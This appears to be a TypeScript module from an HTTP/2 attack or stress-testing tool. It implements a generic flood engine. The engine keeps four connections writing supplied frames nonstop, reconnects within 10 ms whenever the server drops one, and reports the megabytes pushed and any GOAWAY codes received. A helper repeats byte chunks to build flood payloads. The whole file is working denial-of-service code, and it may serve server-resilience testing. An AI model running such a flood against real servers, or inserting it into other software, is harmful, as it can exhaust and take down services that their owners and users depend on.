/** The common part of floods: a few connections that never stop writing, opened again when they are cut. */
import { once } from 'node:events'
import { setTimeout as sleep } from 'node:timers/promises'
import type { AttackContext } from './attack.ts'
import { openHttp2, type RawHttp2 } from './raw-http2.ts'

const CONNECTIONS = 4

/** So that a server that cuts at once is not attacked by connecting alone. */
const RECONNECT_MS = 10

/** @param next what is written next on this connection; `turn` counts from 0 on each */
export async function flood(
  context: AttackContext,
  next: (turn: number) => Uint8Array,
  first: Uint8Array = Buffer.alloc(0),
): Promise<string> {
  let bytes = 0
  let connections = 0
  const codes = new Set<number>()
  const one = async (): Promise<void> => {
    while (!context.signal.aborted) {
      const connection = openHttp2(context)
      connections += 1
      bytes += await floodOne(context, connection, next, first)
      const code = connection.goneAway()
      if (code !== undefined) codes.add(code)
      connection.socket.destroy()
      await sleep(RECONNECT_MS)
    }
  }
  await Promise.all(Array.from({ length: CONNECTIONS }, one))
  const megabytes = (bytes / 1_000_000).toFixed(1)
  const goodbye = codes.size > 0 ? `, sent away with code ${[...codes].join(', ')}` : ''
  return `${megabytes} MB on ${connections} connections${goodbye}`
}

async function floodOne(
  { signal }: AttackContext,
  { socket }: RawHttp2,
  next: (turn: number) => Uint8Array,
  first: Uint8Array,
): Promise<number> {
  const gone = once(socket, 'close').catch(() => undefined)
  let bytes = 0
  const write = async (chunk: Uint8Array): Promise<void> => {
    bytes += chunk.length
    if (!socket.write(chunk))
      await Promise.race([once(socket, 'drain').catch(() => undefined), gone])
    else await new Promise((resolve) => setImmediate(resolve))
  }
  await write(first)
  for (let turn = 0; !signal.aborted && !socket.destroyed; turn += 1) await write(next(turn))
  return bytes
}

export function times(count: number, bytes: Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => bytes))
}
